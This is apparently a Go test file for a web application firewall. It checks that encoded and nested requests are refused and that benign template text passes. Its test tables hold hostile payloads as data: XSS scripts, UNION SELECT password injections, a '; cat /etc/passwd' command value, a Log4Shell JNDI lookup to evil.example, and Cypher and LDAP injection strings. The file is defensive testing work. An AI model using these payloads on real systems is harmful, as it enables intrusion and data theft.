		`<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">x</saml:Issuer></samlp:AuthnRequest>`: suffixMarkup,
		`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/><path d="M2 17l10 5 10-5"/></svg>`:                                                    suffixMarkup,
		`<svg onload=alert(1)>` + strings.Repeat(" ", 200):           "",
		strings.Repeat("1' UNION SELECT password FROM users-- ", 10): "",
	} {
		if got := documentKind(s); got != want {
			t.Errorf("documentKind(%.40q) = %q, want %q", s, got, want)
		}
	}
}

// TestReservedNamesRefused: a client's own argument named as decoded
// documents are (which the XSS and command-execution rules do not read)
// is refused, in the query, a JSON body, a form and an XML attribute.
func TestReservedNamesRefused(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	xss := "<script>alert(document.cookie)</script>"
	for _, p := range []probe{
		{name: "query", method: "GET", path: "/?q:base64:markup=" + url.QueryEscape(xss)},
		{name: "JSON", method: "POST", path: "/api", contentType: "application/json", body: `{"q:base64:markup": "` + xss + `"}`},
		{name: "JSON, inflated", method: "POST", path: "/api", contentType: "application/json", body: `{"a": {"q:base64:inflated:script": "; cat /etc/passwd"}}`},
		{name: "form", method: "POST", path: "/api", contentType: "application/x-www-form-urlencoded", body: "q%3Abase64%3Amarkup=" + url.QueryEscape(xss)},
		{name: "XML attribute", method: "POST", path: "/api", contentType: "application/xml", body: `<a x:base64:markup="` + strings.ReplaceAll(xss, "<", "&lt;") + `">1</a>`},
	} {
		if code, _ := send(t, base, p); code != http.StatusBadRequest && code != http.StatusForbidden {
			t.Errorf("%s: %d, want it refused", p.name, code)
		}
	}
	if *hits != 0 {
		t.Errorf("the backend got %d of them", *hits)
	}
	if code, _ := send(t, base, probe{name: "ok", method: "GET", path: "/?q:base64=x&markup=y"}); code != http.StatusOK {
		t.Errorf("names near the reserved ones: %d, want 200", code)
	}
}

func TestDecoderBoundsAndLevels(t *testing.T) {
	d := decoder{budget: 1000}
	if err := d.value("q", b64(b64(b64("<script>alert(1)</script>")))); err != nil {
		t.Fatal(err)
	}
	if len(d.out) != 3 || d.out[2].name != "q:base64:base64:base64" || d.out[2].value != "<script>alert(1)</script>" {
		t.Fatalf("levels: %+v", d.out)
	}
	// past maxDecodeLevels, still encoded: refused, never passed
	d = decoder{budget: 1000}
	if err := d.value("q", b64(b64(b64(b64(b64("<script>alert(1)</script>")))))); !errors.Is(err, errDecodeDepth) {
		t.Fatalf("five levels: %v, want errDecodeDepth", err)
	}
	d = decoder{budget: 1000}
	// encoded twice more than the engine decodes: decoded once here, the
	// CRS's t:urlDecodeUni takes the last level
	if err := d.value("id", "1%2527%2520OR%25201%253D1"); err != nil || len(d.out) != 1 || d.out[0].value != "1%27%20OR%201%3D1" {
		t.Fatalf("percent: %v %+v", err, d.out)
	}
	// encoded once more: the CRS's own (a percent-encoded cookie)
	d = decoder{budget: 1000}
	if err := d.value("cookie.FCCDCF", "%5Bnull%2Cnull%2C%5B%5B32%2C%22%5B%5C%2217891cd2%5C%22%5D%22%5D%5D%5D"); err != nil || len(d.out) != 0 {
		t.Fatalf("once: %v %+v", err, d.out)
	}
	d = decoder{budget: 100}
	big := b64(strings.Repeat("text ", 40)) // 200 bytes decoded
	if err := d.value("q", big); err != errDecodeBudget {
		t.Fatalf("over the budget: %v", err)
	}
}

func FuzzDecode(f *testing.F) {
	for _, s := range []string{b64("<script>"), "data:x;base64," + b64("hello there!"), "%2527", "%u0027%zz%", "aGVsbG8gd29ybGQh"} {
		f.Add(s)
	}
	f.Add(`{"a": "` + b64(`{"b": "`+b64("<script>")+`"}`) + `"}`)
	f.Add(b64("a=1&q=" + b64("<script>")))
	f.Fuzz(func(t *testing.T, v string) {
		budget := 4*len(v) + 64
		d := decoder{budget: budget, maxArgs: 128}
		err := d.value("f", v)
		if err != nil && !errors.Is(err, errDecodeBudget) && !errors.Is(err, errDecodeDepth) && !errors.Is(err, errArgsFull) && !errors.Is(err, errReservedName) {
			t.Fatalf("%q: %v", v, err)
		}
		total := 0
		for _, a := range d.out {
			total += len(a.name) + len(a.value)
		}
		// names and values are within the budget, arguments within
		// max_arguments (one more: the engine refuses it)
		if total > budget || len(d.out) > 129 {
			t.Fatalf("%q: %d arguments, %d bytes", v, len(d.out), total)
		}
	})
}

func FuzzBodyChecks(f *testing.F) {
	mp, mpType := multipartBody("a", "b")
	f.Add("application/json", `{"a":{"$ne":[]},"b":"x"}`)
	f.Add("application/x-www-form-urlencoded", "a=%zz&b=c+d&&=")
	f.Add(mpType, mp)
	f.Add("text/xml", `<a b="c"><!DOCTYPE x></a>`)
	f.Fuzz(func(t *testing.T, ct, body string) {
		extra, values, _ := bodyChecks(ct, []byte(body), 128)
		if len(extra) > len(body)+1 || len(values) > len(body)+1 {
			t.Fatalf("%d extra and %d values from %d bytes", len(extra), len(values), len(body))
		}
	})
}

// TestDecodedValuesCountAgainstTheLimits: decoded texts are body
// arguments, so a request of many encoded values reaches max_arguments
// (400) rather than doubling what the engine inspects; an attack behind
// many harmless encoded values is refused, never passed.
func TestDecodedValuesCountAgainstTheLimits(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	body := func(n int, last string) string {
		var b strings.Builder
		b.WriteString("{")
		for i := range n {
			fmt.Fprintf(&b, `"f%d": %q, `, i, b64(fmt.Sprintf("harmless text number %d", i)))
		}
		fmt.Fprintf(&b, `"last": %q}`, last)
		return b.String()
	}
	js := "application/json"
	if code, resp := send(t, base, probe{name: "60 encoded fields", method: "POST", path: "/api", contentType: js, body: body(60, "x")}); code != http.StatusOK {
		t.Fatalf("60 encoded fields and one more (121 arguments): %d %s, want 200", code, resp)
	}
	before := *hits
	for _, n := range []int{63, 100, 127} {
		code, _ := send(t, base, probe{name: "many", method: "POST", path: "/api", contentType: js, body: body(n, b64("1' UNION SELECT password FROM users --"))})
		if code != http.StatusBadRequest && code != http.StatusForbidden {
			t.Errorf("%d encoded fields then an encoded attack: %d, want it refused", n, code)
		}
	}
	if *hits != before {
		t.Errorf("the backend got %d of the refused requests", *hits-before)
	}
}

// TestTrailersAreRefused: a chunked request's trailers are read after the
// body and never inspected, so a request carrying any is refused (400)
// and the upstream gets none of it; the same request without trailers
// passes.
func TestTrailersAreRefused(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	do := func(trailer http.Header) int {
		req, err := http.NewRequest("POST", base+"/api", io.MultiReader(strings.NewReader(`{"a": "b"}`)))
		if err != nil {
			t.Fatal(err)
		}
		req.ContentLength = -1 // chunked
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("User-Agent", "Mozilla/5.0 gateway-test")
		req.Trailer = trailer
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		return resp.StatusCode
	}
	if code := do(nil); code != http.StatusOK {
		t.Fatalf("chunked without trailers: %d, want 200", code)
	}
	before := *hits
	if code := do(http.Header{"User-Agent": {"${jndi:ldap://evil.example/a}"}}); code != http.StatusBadRequest {
		t.Errorf("a trailer User-Agent: ${jndi:...}: %d, want 400", code)
	}
	if code := do(http.Header{"X-Note": {"harmless"}}); code != http.StatusBadRequest {
		t.Errorf("a harmless trailer: %d, want 400", code)
	}
	if *hits != before {
		t.Errorf("the backend got %d requests with trailers", *hits-before)
	}
}

// TestDetectionRulesLeaveTemplateVariablesAlone: the rules' own patterns
// (compiled with Go's regexp, RE2's syntax as Coraza's) match none of
// these. GitHub Actions' ${{ secrets.TOKEN }} cannot be in the benign
// table: the CRS alone refuses it at paranoia 1 (a shell expression).
func TestDetectionRulesLeaveTemplateVariablesAlone(t *testing.T) {
	benign := []string{"${{ secrets.TOKEN }}", "${{ github.ref }}", "{{name}}", "{{#each items}}", "{{/each}}", "{{> partial}}",
		"{{ price | currency }}", "{{order.id}}", "{2024 10}", "(7 x 7 cm)", "@home", "{{ blueprint }}",
		"{% set total = price %}", "{{ 'Dear ' ~ name }}", "{{ items|map(attribute='name')|join(', ') }}", "{{ titles|map('lower')|sort }}",
		"{{ 7 }} of {{ 10 }}", "{% for i in items %}{{ i.id }}{% endfor %}", "Ticket #{123 456}", "Use (&) for AND and (|) for OR in LDAP filters",
		"{{ request.path }}", "Prefer a || b; the value is 'n/a' || empty", "pages {1-2} and {3 4}",
		"{{ user.name }}", "{% if x %}", "{{#items}}", "{{ order.total | times: 1.1 }}", "{{ add .Count 1 }}", "{math}", "{{ 7 }} of {{ items | size }}",
		"{{ request.user.username }}", "{{ request.method }}", "{{ request.get_full_path }}", "{{ request.user.is_authenticated }}", "{{ request.GET_count }}",
		"{{ request.session_key_hint }}", "{{ request.metadata }}",
		"{{ request_id }}", "{{ requests|length }}", "{% set r = requested %}", "{{ self.title }}", "{{ configuration }}", "{{ (price) }}", "{{ config_name or 'x' }}", "{{ myself._x }}", "{{ reconfigure_url }}"}
	for _, line := range strings.Split(strings.TrimSpace(detectionRules+templateMoreRule), "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "SecRule MATCHED_VAR") {
			continue // a chained rule's condition on what matched (MATCHED_VAR, MATCHED_VARS_NAMES)
		}
		i := strings.Index(line, `"@rx `)
		j := strings.Index(line[i+5:], `" "id:`)
		if i < 0 || j < 0 {
			t.Fatalf("no @rx in %s", line)
		}
		re := regexp.MustCompile(strings.ReplaceAll(line[i+5:i+5+j], `\"`, `"`))
		for _, s := range benign {
			if re.MatchString(s) {
				t.Errorf("%s matches %q", line[i+5+j+2:i+5+j+12], s)
			}
		}
	}
}

// TestJSONAsTextCountsAgainstTheLimits: the leaves of JSON sent as
// text/plain are arguments, so more of them than max_arguments get 400,
// never a request partly inspected; a small one passes.
func TestJSONAsTextCountsAgainstTheLimits(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	body := func(n int) string {
		var b strings.Builder
		b.WriteString("[")
		for i := range n {
			fmt.Fprintf(&b, `"v%d", `, i)
		}
		b.WriteString(`"last"]`)
		return b.String()
	}
	if code, resp := send(t, base, probe{name: "10 leaves", method: "POST", path: "/api", contentType: "text/plain", body: body(10)}); code != http.StatusOK {
		t.Fatalf("10 leaves: %d %s", code, resp)
	}
	before := *hits
	if code, _ := send(t, base, probe{name: "500 leaves", method: "POST", path: "/api", contentType: "text/plain", body: body(500)}); code != http.StatusBadRequest {
		t.Errorf("500 leaves as text/plain: %d, want 400", code)
	}
	if *hits != before {
		t.Error("the backend got the refused request")
	}
}

// TestJSONAsOtherTypesNamesBounded: JSON sent under another content type
// is walked as a JSON body is, so its names are bounded the same way:
// deep nesting over many leaves is refused (errNamesTooLong) as text/plain,
// a form or XML, never walked into thousands of long names.
func TestJSONAsOtherTypesNamesBounded(t *testing.T) {
	for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "application/xml"} {
		if _, _, err := bodyChecks(ct, []byte(deepNames(900, 10)), 128); !errors.Is(err, errNamesTooLong) {
			t.Errorf("%s: 900 nested objects over 10 leaves: %v, want errNamesTooLong", ct, err)
		}
		if _, _, err := bodyChecks(ct, []byte(deepNames(100, 10)), 128); err != nil {
			t.Errorf("%s: 100 nested objects over 10 leaves: %v, want it inspected", ct, err)
		}
	}
}

// FuzzBinaryText: whatever the bytes, inflated text is within the limit
// (inflating stops there), UTF-16 text at most 1.5 times the bytes, and no
// panic.
func FuzzBinaryText(f *testing.F) {
	f.Add(deflated("<a>hello there</a>"), 100)
	f.Add(gzipped("1' OR 1=1 --"), 100)
	f.Add(utf16le("hello there, world"), 100)
	f.Add(deflated(strings.Repeat("a", 10000)), 50)
	f.Fuzz(func(t *testing.T, b []byte, limit int) {
		limit = max(0, min(limit, 1<<16))
		s, suffix, ok, err := binaryText(b, limit)
		if ok && suffix == suffixInflated && len(s) > limit {
			t.Fatalf("inflated %d bytes past a limit of %d", len(s), limit)
		}
		if ok && suffix == suffixUTF16 && 2*len(s) > 3*len(b) {
			t.Fatalf("UTF-16: %d bytes of text from %d", len(s), len(b))
		}
		if err != nil && err != errDecodeBudget {
			t.Fatal(err)
		}
	})
}

// TestCredentialOperatorNames: rule 210133's patterns (Go's regexp, RE2's
// syntax as Coraza's) on the names the engine gives JSON leaves and qs
// brackets, and the where and filter objects it leaves out.
func TestCredentialOperatorNames(t *testing.T) {
	op, wrapper := regexp.MustCompile(credentialOperator), regexp.MustCompile(operatorWrapper)
	for name, want := range map[string]bool{
		"json.password.not":              true,
		"json.user.password.startsWith":  true,
		"json.otp.notIn.0":               true,
		"json.resetToken.not":            true,
		"json.client_secret.ne":          true,
		"json.code._neq":                 true,
		"password[not]":                  true,
		"user[password][gt]":             true,
		"filter:json.password.not":       true,
		"json.where.code.not":            false, // a filter API's query
		"json.filters.token.contains":    false,
		"json.password":                  false,
		"json.password.new":              false,
		"json.password.in.0":             false,
		"json.passwords.not":             false,
		"json.countryCode.not":           false,
		"json.secretary.not":             false,
		"json.tokens.contains":           false,
		"json.notifications.not.0":       false,
		"json.spin.gt":                   false,
		"json.email.contains":            false,
		"json.settings.password.equals":  false,
		"json.settings.passwordHint.not": false,
		"json.settings.pinned.not":       false,
		"json.token.expires_in":          false,
		"json.token.scopes.0":            false,
		// attack 8, F1: the operator above the leaf
		"json.password.not.equals": true,
		"password[not][equals]":    true,
		"password[notIn][]":        true,
		"password[notIn][0]":       true,
		"json.password.not.x":      true,
		// F2: more secret fields
		"json.recoveryCode.not":      true,
		"json.authCode.not":          true,
		"json.twoFactorCode.not":     true,
		"json.verification_code.not": true,
		"json.resetCode.not":         true,
		"json.verificationCode.not":  true,
		"json.activationCode.not":    true,
		"json.inviteCode.not":        true,
		"json.pinCode.not":           true,
		"json.pincode.not":           true,
		"json.passkey.not":           true,
		"json.apiKey.not":            true,
		"json.api_key.not":           true,
		"json.accessKey.not":         true,
		"json.secretKey.not":         true,
		"json.secret_key.not":        true,
		"json.passwordHash.not":      true,
		"json.password_hash.not":     true,
		"json.hash.not":              true,
		"json.signature.not":         true,
		"json.sessionId.not":         true,
		"json.answer.not":            true,
		"json.securityAnswer.not":    true,
		"json.key.not":               true,
		// near-misses
		"json.keyboard.not":         false,
		"json.monkey.not":           false,
		"json.keys.contains":        false,
		"json.hashtag.not":          false,
		"json.hashtags.contains":    false,
		"json.signatures.not":       false,
		"json.answers.not":          false,
		"json.zipCode.not":          false,
		"json.postalCode.not":       false,
		"json.productCode.contains": false,
		"json.password.equals.x":    false,
		"json.notes.not":            false,
		"json.passwordPolicy.not":   false,
		"json.key.name":             false,
		"json.where.apiKey.not":     false,
		"json.password.notes":       false,
		// attack 10, B1: the other negated operators of Hasura and
		// Directus, and notContains, not_contains, nregexp
		"json.password._nregex":       true,
		"json.password._niregex":      true,
		"json.password._nsimilar":     true,
		"json.password._nempty":       true,
		"json.password._empty":        true,
		"json.password._null":         true,
		"json.password._nstarts_with": true,
		"json.password._nends_with":   true,
		"json.password._nicontains":   true,
		"json.password._istarts_with": true,
		"json.password.notContains":   true,
		"json.password.not_contains":  true,
		"json.password.nregexp":       true,
		"password[_nregex]":           true,
		"json.where.password._nempty": false,
		"json.email._nregex":          false,
		"json.password.nullable":      false,
		"json.password.emptyAllowed":  false,
		"json.password.notice":        false,
		// B2: more one-time-code and credential field names
		"json.smsCode.not":         true,
		"json.sms_code.not":        true,
		"json.emailCode.not":       true,
		"json.email_code.not":      true,
		"json.loginCode.not":       true,
		"json.login_code.not":      true,
		"json.oneTimeCode.not":     true,
		"json.one_time_code.not":   true,
		"json.phoneCode.not":       true,
		"json.twoFaCode.not":       true,
		"json.tfa_code.not":        true,
		"json.token_hash.not":      true,
		"json.tokenHash.not":       true,
		"json.pw.not":              true,
		"json.pword.not":           true,
		"json.userPass.not":        true,
		"json.user_pass.not":       true,
		"json.loginPass.not":       true,
		"json.pass_phrase.not":     true,
		"json.pin_number.not":      true,
		"json.securityPin.not":     true,
		"json.mpin.not":            true,
		"json.upiPin.not":          true,
		"json.cvv.not":             true,
		"json.cvc.not":             true,
		"json.password1.not":       true,
		"json.device_code.not":     true,
		"json.pwa.not":             false,
		"json.userPassport.not":    false,
		"json.mapping.not":         false,
		"json.phone.not":           false,
		"json.emailCodes.contains": false,
		"json.cvvRequired.not":     false,
		"json.passwords1.not":      false,
		"json.spinner.not":         false,
		"json.pinNumbers.not":      false,
		"json.where.smsCode.not":   false,
		"json.tokenHashes.not":     false,
		"json.bypass.not":          false,
		// attack 11, BROKE 8: more names, more negated operators
		"json.totpCode.not":                true,
		"json.smsOtp.not":                  true,
		"json.emailOtp.not":                true,
		"json.sms_otp.not":                 true,
		"json.authenticatorCode.not":       true,
		"json.resetKey.not":                true,
		"json.pass_word.not":               true,
		"json.password.notRegexp":          true,
		"json.password.notIRegexp":         true,
		"json.password.notBetween.0":       true,
		"json.password.not_starts_with":    true,
		"json.password.not_ends_with":      true,
		"json.password.notSimilar":         true,
		"json.smsOtpEnabled.not":           false,
		"json.authenticator.not":           false,
		"json.resetKeys.contains":          false,
		"json.emailOtps.not":               false,
		"json.password.notRegexpDocs":      false,
		"json.email.notBetween.0":          false,
		"json.where.totpCode.not":          false,
		"json.password.not_starts_with_x":  false,
		"json.authenticatorCodeLength.not": false,
	} {
		if got := op.MatchString(name) && !wrapper.MatchString(name); got != want {
			t.Errorf("%s: refused %v, want %v", name, got, want)
		}
	}
}

// TestCookieUnquote: a quoted cookie's escapes as Python's http.cookies
// decodes them.
func TestCookieUnquote(t *testing.T) {
	for v, want := range map[string]string{
		`admin\047#`:           "admin'#",
		`\141\144\155\151\156`: "admin",
		`say \"hi\"`:           `say "hi"`,
		`C:\\Users`:            `C:\Users`,
		`\4000`:                "4000", // \400 is no byte: \4 is '4'
		`\0400`:                " 0",
		`a\`:                   "",
		`plain`:                "",
	} {
		got, ok := cookieUnquote(v)
		if ok != (want != "") || ok && got != want {
			t.Errorf("cookieUnquote(%q) = %q, %v; want %q", v, got, ok, want)
		}
	}
}

func FuzzCookieUnquote(f *testing.F) {
	for _, s := range []string{`admin\047#`, `a\`, `\\`, `\377\400`, `x`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if u, ok := cookieUnquote(v); ok && len(u) >= len(v) {
			t.Fatalf("cookieUnquote(%q) = %q: not shorter", v, u)
		}
	})
}

func FuzzMIMEWords(f *testing.F) {
	for _, s := range []string{"=?UTF-8?Q?admin=27#?=", "=?UTF-8?B?YWRtaW4nIw==?=", "=?ISO-8859-1?B?6enp6Q==?=", "a =? b ?= c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if s, ok := mimeWords(v); ok && (s == v || 2*len(s) > 3*len(v)) {
			t.Fatalf("mimeWords(%q) = %q", v, s)
		}
	})
}

// TestRepeatedKey: rule 210134's names, a key that repeats its parent's
// (attack 14's Node mysql object injection), and names near them.
func TestRepeatedKey(t *testing.T) {
	truthy := regexp.MustCompile("(?sm)" + truthyValue) // as Coraza compiles it
	for name, want := range map[string]bool{
		"json.password.password":         true,
		"json.user.password.password":    true,
		"password[password]":             true,
		"password[password][]":           true,
		"Password[password]":             true,
		"user[password][password]":       true,
		"filter:json.email.email":        true,
		"json.user.user_id":              false,
		"json.settings.settings_version": false,
		"json.json":                      false, // {"json": 1}
		"json.matrix.0.0":                false, // [[1]]
		"json.password":                  false,
		"password":                       false,
		"json.password.current":          false,
		"json.password.password.confirm": false,
		"page[number]":                   false,
		"json.passwords.password":        false,
	} {
		if got := repeatedKey(name); got != want {
			t.Errorf("repeatedKey(%q) = %v, want %v", name, got, want)
		}
		if got := goMatch(repeatedKeyEntry).Evaluate(nil, "ARGS:"+name); got != want {
			t.Errorf("Evaluate(ARGS:%q) = %v, want %v", name, got, want)
		}
	}
	for v, want := range map[string]bool{"1": true, "true": true, "TRUE": true, "01": true, "1.0": true, "1e0": true, "1abc": true, "7": false, "12": false, "1.5": false, "0": false, "-1": false, "false": false, "": false, "x": false,
		// the value, not its lines: (?m) would read a later line of 1
		"abc\n1": false, "x\ntrue": false, "1\nx": true} {
		if got := truthy.MatchString(v); got != want {
			t.Errorf("truthyValue on %q: %v, want %v", v, got, want)
		}
	}
}

// TestLDAPFilterRule: rule 210120 reads the value pasted into a filter,
// not each of its lines (Coraza compiles it with (?m)).
func TestLDAPFilterRule(t *testing.T) {
	re := regexp.MustCompile("(?sm)" + ldapFilterRule)
	for v, want := range map[string]bool{
		"*)(uid=*))(|(uid=*": true, "admin)(&)": true, "*)(|(objectclass=*)": true, "x) (!": true, "a\nb)(uid=*": true,
		"(a)\nadmin)(uid=*": false, "Mark each task (pick one):\na) (!) urgent": false, "Jane (admin)": false, "(&(objectClass=user)(mail=a@b.c))": false,
	} {
		if got := re.MatchString(v); got != want {
			t.Errorf("210120 on %q: %v, want %v", v, got, want)
		}
	}
}

// matcher is a function as a MatchString.
type matcher func(string) bool

func (m matcher) MatchString(v string) bool { return m(v) }

// TestCypherRule: rule 210135 matches attack 14's Cypher after a closed
// quote and not prose with an apostrophe before Cypher's words.
func TestCypherRule(t *testing.T) {
	rule := regexp.MustCompile("(?sm)" + strings.ReplaceAll(cypherRule, `\"`, `"`))
	query := regexp.MustCompile("(?sm)" + cypherQuery)
	re := matcher(func(v string) bool { return rule.MatchString(v) && !query.MatchString(v) })
	for _, s := range []string{
		`x' RETURN 1 UNION MATCH (u:User) RETURN u.password//`, `x' WITH 1 as a MATCH (u:User) RETURN u.password//`,
		`x' OR 1=1 WITH u MATCH (u) RETURN u//`, `x" RETURN 1 UNION MATCH (u:User) RETURN u.password//`,
		`x'}) RETURN 1 UNION MATCH (u:User) RETURN u//`, `x' MATCH (u:User) RETURN u//`, `x' UNION MATCH (n:Secret) RETURN n.value//`,
		`x' OR 1 = 1 WITH u MATCH (u) RETURN u//`, `x' AND u.age >= 0 WITH u MATCH (u) RETURN u//`,
		`x' RETURN u.password//`, `x' RETURN u//`, `x' RETURN *//`, `x' RETURN u.password, u.email//`, `x' RETURN u.password AS p //`,
		`x' DETACH DELETE n//`, `x' DELETE u, r//`, `x' SET u.admin = true//`,
		// attack 18's: a clause word with a quote right after it at the
		// value's start, any clause up to a comment at the value's end
		`Match' RETURN u.password//`, `MATCH' OR 1=1 WITH u MATCH (u) RETURN u//`, `Create' RETURN 1 UNION MATCH (u:User) RETURN u.password//`,
		`x' RETURN u{.password}//`, `x' RETURN u['password']//`, `x' RETURN properties(u)//`, `x' RETURN [u.password]//`,
		`x' RETURN {p:u.password}//`, `x' RETURN DISTINCT u.password//`, `x' RETURN collect(u.password)//`, "x' RETURN `u`.password//",
		`x' WITH u RETURN u.password//`, `x' SET u += {admin:true}//`, `x' SET u = {admin:true}//`, `x' SET u:Admin//`,
		`x' REMOVE u.password//`, `x' FOREACH (n IN [u] | DETACH DELETE n)//`,
	} {
		if !re.MatchString(s) {
			t.Errorf("210135 misses %q", s)
		}
	}
	for _, s := range []string{
		`it's a match (finally) with the return`, `I won't return the match (it was bad)`, `"foo" OR (title:bar)`,
		`She said 'with pleasure' and we match (again)`, `Time: 10:30 (UTC: 9:30)`, `don't with (a:b)`,
		`Jones' match (home: away)`, `Jones' match (home:away) was fun`, `MATCH (u:User) RETURN u`,
		`Jones' return to https://example.com/`, `the parcel's return label // see below`, `I'd return it`, `'return' // keyword`, `Ann's delete key // broken`, `it's set to go // soon`,
		// attack 17's: whole queries with a quoted literal, prose
		`MATCH (a:Actor)-[:ACTED_IN]->(m:Movie) WHERE m.title = 'Heat' RETURN a.name, m.released // list cast`,
		`MATCH (u:User) WHERE u.name = 'x' OR u.name = 'y' WITH u MATCH (u)-[:OWNS]->(d) RETURN d`,
		`It's 'Fine' with me: match (the red one) at the store`,
		// attack 18's closing kept these passing: a URL's // at the end,
		// a whole query that ends in a comment
		`Jones' return policy: https://`, `MATCH (u:User) WHERE u.name = 'x' RETURN u.password //`, `Match (u) return u//`,
	} {
		if re.MatchString(s) {
			t.Errorf("210135 matches the benign %q", s)
		}
	}
}

// numbersJSON is a JSON array of the numbers 0 to n-1.
func numbersJSON(n int) string {
	var b strings.Builder
	b.WriteString("[")
	for i := range n {
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString(strconv.Itoa(i))
	}
	b.WriteString("]")
	return b.String()
}

// TestNumericRefs: numeric character references decoded, others left.
func TestCharRefs(t *testing.T) {
	for in, want := range map[string]string{
		"admin&#39; --": "admin' --", "a&#x27;b&#X27;": "a'b'", "&#;": "", "&#38;#39;": "&#39;", "no refs": "", "&&#35;": "&#",
		// no reference to an ASCII character: no argument
		"&#233;t&#233;": "", "x&#0;": "", "&#1114112;": "", "&eacute;t&eacute;": "", "x&copy=1&para=2": "", "&acE;": "", "&#128;": "",
		// one: all decoded
		"&#233;t&#233; &#39;": "été '", "&ltimes; x": "\u22c9 x", "&#83;ELECT": "SELECT", "&#x0000000053;ELECT": "SELECT",
		// attack 39: zero-padded, without a semicolon, named
		"admin&#00000039; --": "admin' --", "admin&#x000000027; --": "admin' --", "admin&#39 --": "admin' --",
		"admin&#x27 --": "admin' --", "admin&apos; --": "admin' --", "x&apos;&rpar; OR f&lpar;3&rpar;": "x') OR f(3)",
		"&#39": "'", "Tom &amp; Jerry": "Tom & Jerry", "a=1&b=2": "", "&ltx": "<x", "&bne;": "=\u20e5",
		// qs: String.fromCharCode keeps the number modulo 2^16
		"admin&#65575; --": "admin' --", "&#131111;": "'", "&#128512;": "", "&#65536;": "", "&#65575": "",
		"&#99999999999999999999999999999;": "", "&#4295032871;": "'",
		// attack 40: what Python's html.unescape deletes is deleted
		"un&#1;ion": "union", "un&#1ion": "union", "un&#x7f;ion": "union", "un&#65535;ion": "union", "un&#xFDD0;ion": "union",
		"un&#1114111;ion": "union", "un&#0000001;ion": "union", "un&#x10fffe;ion": "union", "un&#11;ion": "union",
		"un&#13;ion": "un\rion", "un&#12;ion": "un\fion", "un&#x80;ion": "", "&#xD800;": "", "un&#9;ion": "un\tion",
	} {
		got, ok := charRefs(in)
		if !ok {
			got = ""
		}
		if got != want {
			t.Errorf("charRefs(%q) = %q, want %q", in, got, want)
		}
	}
	// each name asciiRef reads is an entity of an ASCII character
	for _, n := range asciiEntities {
		if u := html.UnescapeString("&" + n + ";"); u == "&"+n+";" || u[0] >= utf8.RuneSelf {
			t.Errorf("&%s; is %q", n, u)
		}
	}
	for _, n := range asciiLegacyEntities {
		if u := html.UnescapeString("&" + n + "x"); u[0] >= utf8.RuneSelf || u[1:] != "x" {
			t.Errorf("&%sx is %q", n, u)
		}
	}
}

// FuzzCharRefs: any value is decoded without a panic, never longer (&acE;
// is as long decoded).
func FuzzCharRefs(f *testing.F) {
	for _, s := range []string{"admin&#39; --", "&#x10FFFF;", "&#", "&#x;&#12", "&#65575;", "&acE;&apos", "&#1e5;"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if u, ok := charRefs(v); ok && len(u) > len(v) {
			t.Fatalf("charRefs(%q) = %q, longer", v, u)
		}
	})
}
